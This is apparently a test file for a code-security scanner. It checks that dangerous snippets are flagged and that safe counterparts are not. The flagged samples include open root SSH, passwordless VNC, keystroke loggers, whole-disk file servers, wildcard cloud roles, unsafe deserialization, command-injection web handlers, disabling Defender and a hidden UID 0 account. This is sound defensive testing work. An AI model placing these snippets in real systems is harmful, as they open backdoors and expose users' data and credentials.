/**
 * Eighth recall round, capabilities exposed without safeguards (reviewed, high): remote login
 * opened up, keystroke loggers, the home folder or disk served to the network, everything
 * allowed to a role, network input deserialized into code, a web request pasted into a shell
 * line. Each is written in a form, language or tool other than the development set's, beside an
 * honest counterpart that must stay at medium or below.
 */
import { describe, expect, it } from "vitest";
import { atMostMedium, reviewed, scanOf } from "./severity-asserts.js";

describe("remote login opened without safeguards", () => {
  it("root by password appended in a heredoc; key-only settings are not", () => {
    reviewed(scanOf({ "vps.sh": "#!/bin/bash\ncat >> /etc/ssh/sshd_config <<EOF\nPermitRootLogin yes\nPasswordAuthentication yes\nEOF\nsystemctl restart sshd\n" }), "SR-PRIV-031");
    atMostMedium(scanOf({ "vps.sh": "#!/bin/bash\ncat >> /etc/ssh/sshd_config <<EOF\nPermitRootLogin prohibit-password\nPasswordAuthentication no\nEOF\nsystemctl restart sshd\n" }));
  });
  it("empty passwords through tee into a drop-in; the same drop-in refusing them is not", () => {
    reviewed(scanOf({ "easy.sh": "echo 'PermitEmptyPasswords yes' | sudo tee /etc/ssh/sshd_config.d/10-easy.conf\n" }), "SR-PRIV-031");
    atMostMedium(scanOf({ "easy.sh": "echo 'PermitEmptyPasswords no' | sudo tee /etc/ssh/sshd_config.d/10-easy.conf\n" }));
  });
  it("RDP enabled without network-level authentication in PowerShell; with it, it is not", () => {
    const key = "'HKLM:\\System\\CurrentControlSet\\Control\\Terminal Server\\WinStations\\RDP-Tcp'";
    reviewed(scanOf({ "rdp.ps1": `Set-ItemProperty 'HKLM:\\System\\CurrentControlSet\\Control\\Terminal Server' -Name fDenyTSConnections -Value 0\nSet-ItemProperty ${key} -Name UserAuthentication -Value 0\n` }), "SR-PRIV-031");
    atMostMedium(scanOf({ "rdp.ps1": `Set-ItemProperty 'HKLM:\\System\\CurrentControlSet\\Control\\Terminal Server' -Name fDenyTSConnections -Value 0\nSet-ItemProperty ${key} -Name UserAuthentication -Value 1\n` }));
  });
  it("a VNC server without a password; one with a password on localhost is not", () => {
    reviewed(scanOf({ "screen.sh": "x11vnc -forever -shared -nopw -display :0 &\n" }), "SR-PRIV-031");
    atMostMedium(scanOf({ "screen.sh": "x11vnc -forever -usepw -localhost -display :0 &\n" }));
  });
});

describe("keystroke loggers", () => {
  it("Node uiohook appending every keydown to a file; a single hotkey registered is not", () => {
    reviewed(scanOf({ "wpm.js": "const { uIOhook } = require('uiohook-napi');\nconst fs = require('fs');\nuIOhook.on('keydown', (e) => fs.appendFileSync('/tmp/.k', `${e.keycode}\\n`));\nuIOhook.start();\n" }), "SR-CRED-031");
    atMostMedium(scanOf({ "hotkey.js": "const { globalShortcut, app } = require('electron');\napp.whenReady().then(() => globalShortcut.register('CommandOrControl+Shift+K', () => console.log('toggle')));\n" }));
  });
  it("PowerShell polling GetAsyncKeyState into a log; reading the keyboard layout is not", () => {
    reviewed(scanOf({ "typing.ps1": "Add-Type -MemberDefinition '[DllImport(\"user32.dll\")] public static extern short GetAsyncKeyState(int k);' -Name K -Namespace W\nwhile ($true) { foreach ($c in 8..190) { if ([W.K]::GetAsyncKeyState($c) -eq -32767) { Add-Content $env:TEMP\\k.txt ([char]$c) } } }\n" }), "SR-CRED-031");
    atMostMedium(scanOf({ "layout.ps1": "Get-WinUserLanguageList | Select-Object LanguageTag, InputMethodTips | Out-File layout.txt\n" }));
  });
  it("the Python keyboard library's on_press hook written to a file; add_hotkey is not", () => {
    reviewed(scanOf({ "stats.py": "import keyboard\nlog = open('/tmp/.typing', 'a')\nkeyboard.on_press(lambda e: log.write(e.name + '\\n'))\nkeyboard.wait()\n" }), "SR-CRED-031");
    atMostMedium(scanOf({ "stats.py": "import keyboard\nlog = open('/tmp/.typing', 'a')\nkeyboard.add_hotkey('ctrl+alt+p', lambda: log.write('pause\\n'))\nkeyboard.wait()\n" }));
  });
});

describe("the home folder or whole disk served to the network", () => {
  it("npx serve on /; the build folder is not", () => {
    reviewed(scanOf({ "share.sh": "npx serve / -l 5000\n" }), "SR-EXFIL-031");
    atMostMedium(scanOf({ "share.sh": "npx serve ./dist -l 5000\n" }));
  });
  it("ruby's httpd on ~; on the site folder it is not", () => {
    reviewed(scanOf({ "share.sh": "ruby -run -e httpd ~ -p 8000\n" }), "SR-EXFIL-031");
    atMostMedium(scanOf({ "share.sh": "ruby -run -e httpd ./site -p 8000\n" }));
  });
  it("http.server --directory ~ and php -S with -t /; a docs folder is not", () => {
    reviewed(scanOf({ "share.sh": "python3 -m http.server --directory ~ 9000\n" }), "SR-EXFIL-031");
    reviewed(scanOf({ "share.sh": "php -S 0.0.0.0:8000 -t /\n" }), "SR-EXFIL-031");
    atMostMedium(scanOf({ "share.sh": "python3 -m http.server --directory ./docs/_build 9000\n" }));
  });
});

describe("everything allowed to a role", () => {
  it("Terraform inline policy with Action * on Resource *; a bucket read policy is not", () => {
    reviewed(scanOf({ "iam.tf": "resource \"aws_iam_role_policy\" \"fn\" {\n  role = aws_iam_role.fn.id\n  policy = jsonencode({ Version = \"2012-10-17\", Statement = [{ Effect = \"Allow\", Action = \"*\", Resource = \"*\" }] })\n}\n" }), "SR-PRIV-032");
    atMostMedium(scanOf({ "iam.tf": "resource \"aws_iam_role_policy\" \"fn\" {\n  role = aws_iam_role.fn.id\n  policy = jsonencode({ Version = \"2012-10-17\", Statement = [{ Effect = \"Allow\", Action = [\"s3:GetObject\"], Resource = \"arn:aws:s3:::reports/*\" }] })\n}\n" }));
  });
  it("gcloud binding roles/owner to the job's service account; an object viewer is not", () => {
    reviewed(scanOf({ "grant.sh": "gcloud projects add-iam-policy-binding \"$PROJECT\" --member=\"serviceAccount:$SA\" --role=roles/owner\n" }), "SR-PRIV-032");
    atMostMedium(scanOf({ "grant.sh": "gcloud projects add-iam-policy-binding \"$PROJECT\" --member=\"serviceAccount:$SA\" --role=roles/storage.objectViewer\n" }));
  });
});

describe("network input deserialized into code", () => {
  it("Flask unpickling a request body; JSON from it is not", () => {
    reviewed(scanOf({ "api.py": "import pickle\nfrom flask import Flask, request\napp = Flask(__name__)\n@app.post('/job')\ndef job():\n    task = pickle.loads(request.get_data())\n    return str(task())\n" }), "SR-INJECT-031");
    atMostMedium(scanOf({ "api.py": "import json\nfrom flask import Flask, request\napp = Flask(__name__)\n@app.post('/job')\ndef job():\n    task = json.loads(request.get_data())\n    return str(task['name'])\n" }));
  });
  it("PHP unserialize of php://input; json_decode is not", () => {
    reviewed(scanOf({ "hook.php": "<?php\n$job = unserialize(file_get_contents('php://input'));\necho $job->run();\n" }), "SR-INJECT-031");
    atMostMedium(scanOf({ "hook.php": "<?php\n$job = json_decode(file_get_contents('php://input'), true);\necho htmlspecialchars($job['name']);\n" }));
  });
  it("aiohttp yaml.load with the full Loader; safe_load is not", () => {
    reviewed(scanOf({ "srv.py": "import yaml\nfrom aiohttp import web\nasync def cfg(request):\n    conf = yaml.load(await request.text(), Loader=yaml.Loader)\n    return web.json_response(conf)\n" }), "SR-INJECT-031");
    atMostMedium(scanOf({ "srv.py": "import yaml\nfrom aiohttp import web\nasync def cfg(request):\n    conf = yaml.safe_load(await request.text())\n    return web.json_response(conf)\n" }));
  });
  it("Java readObject on a socket's stream; on a local cache file it is not", () => {
    reviewed(scanOf({ "Worker.java": "import java.io.*;\nimport java.net.*;\nclass Worker {\n  public static void main(String[] a) throws Exception {\n    ServerSocket ss = new ServerSocket(9100);\n    Socket s = ss.accept();\n    Object job = new ObjectInputStream(s.getInputStream()).readObject();\n    ((Runnable) job).run();\n  }\n}\n" }), "SR-INJECT-031");
    atMostMedium(scanOf({ "Cache.java": "import java.io.*;\nclass Cache {\n  static Object load() throws Exception {\n    return new ObjectInputStream(new FileInputStream(\"cache.bin\")).readObject();\n  }\n}\n" }));
  });
});

describe("a web request pasted into a shell command line", () => {
  it("Express exec with req.query concatenated; execFile with an argument list is not", () => {
    reviewed(scanOf({ "srv.js": "const { exec } = require('child_process');\napp.get('/thumb', (req, res) => exec('convert ' + req.query.file + ' -resize 64x64 out.png', () => res.sendFile('out.png')));\n" }), "SR-SHELL-031");
    atMostMedium(scanOf({ "srv.js": "const { execFile } = require('child_process');\napp.get('/thumb', (req, res) => execFile('convert', [req.query.file, '-resize', '64x64', 'out.png'], () => res.sendFile('out.png')));\n" }));
  });
  it("Flask f-string with shell=True; the list form is not", () => {
    reviewed(scanOf({ "dig.py": "import subprocess\nfrom flask import request\n@app.get('/dig')\ndef dig():\n    return subprocess.check_output(f\"dig +short {request.args['d']}\", shell=True)\n" }), "SR-SHELL-031");
    atMostMedium(scanOf({ "dig.py": "import subprocess\nfrom flask import request\n@app.get('/dig')\ndef dig():\n    return subprocess.check_output(['dig', '+short', request.args['d']])\n" }));
  });
  it("Go net/http handler running ?cmd= with sh -c; a fixed table picked by the parameter is not", () => {
    reviewed(scanOf({ "main.go": "package main\n\nimport (\n\t\"net/http\"\n\t\"os/exec\"\n)\n\nfunc main() {\n\thttp.HandleFunc(\"/run\", func(w http.ResponseWriter, r *http.Request) {\n\t\tout, _ := exec.Command(\"sh\", \"-c\", r.URL.Query().Get(\"cmd\")).CombinedOutput()\n\t\tw.Write(out)\n\t})\n\thttp.ListenAndServe(\":8080\", nil)\n}\n" }), "SR-SHELL-031");
    atMostMedium(scanOf({ "main.go": "package main\n\nimport (\n\t\"net/http\"\n\t\"os/exec\"\n)\n\nvar actions = map[string][]string{\"status\": {\"systemctl\", \"status\", \"app\"}}\n\nfunc main() {\n\thttp.HandleFunc(\"/run\", func(w http.ResponseWriter, r *http.Request) {\n\t\ta, ok := actions[r.URL.Query().Get(\"a\")]\n\t\tif !ok { http.Error(w, \"no\", 400); return }\n\t\tout, _ := exec.Command(a[0], a[1:]...).CombinedOutput()\n\t\tw.Write(out)\n\t})\n\thttp.ListenAndServe(\"127.0.0.1:8080\", nil)\n}\n" }));
  });
  it("Node http server running a search parameter with execSync; an allow-listed execFileSync is not", () => {
    reviewed(scanOf({ "srv.js": "const http = require(\"http\");\nconst { execSync } = require(\"child_process\");\nhttp.createServer((req, res) => {\n  const cmd = new URL(req.url, \"http://x\").searchParams.get(\"c\");\n  res.end(execSync(cmd));\n}).listen(9000);\n" }), "SR-SHELL-031");
    atMostMedium(scanOf({ "srv.js": "const http = require(\"http\");\nconst { execFileSync } = require(\"child_process\");\nconst ACTIONS = { status: [\"git\", [\"status\", \"--short\"]] };\nhttp.createServer((req, res) => {\n  const a = new URL(req.url, \"http://x\").searchParams.get(\"a\");\n  const act = ACTIONS[a];\n  if (!act) { res.statusCode = 400; return res.end(); }\n  res.end(execFileSync(act[0], act[1]));\n}).listen(9000, \"127.0.0.1\");\n" }));
  });
  it("PHP backticks with a GET parameter; escapeshellarg is not", () => {
    reviewed(scanOf({ "ping.php": "<?php\n$h = $_GET['h'];\necho `ping -c1 $h`;\n" }), "SR-SHELL-031");
    atMostMedium(scanOf({ "ping.php": "<?php\n$h = $_GET['h'];\necho shell_exec('ping -c1 ' . escapeshellarg($h));\n" }));
  });
});

describe("severity of switched-off safeguards and backdoor accounts", () => {
  it("passwordless sudo and Defender off are reviewed, not blocked; a UID 0 account given a preset hash is blocked", () => {
    const sudo = scanOf({ "nopass.sh": "echo \"$USER ALL=(ALL) NOPASSWD: ALL\" | sudo tee /etc/sudoers.d/90-dev\n" });
    expect(sudo.decision).toBe("review");
    const av = scanOf({ "fast.ps1": "Set-MpPreference -DisableRealtimeMonitoring $true\n" });
    expect(av.decision).toBe("review");
    const backdoor = scanOf({ "svc.sh": "useradd -m -o -u 0 -g 0 svc-ops\necho 'svc-ops:$6$saltsalt$0123456789abcdefABCDEF0123456789' | chpasswd -e\n" });
    expect(backdoor.decision).toBe("blocked");
    atMostMedium(scanOf({ "svc.sh": "useradd -m -s /bin/bash svc-ops\npasswd -l svc-ops\n" }));
  });
});
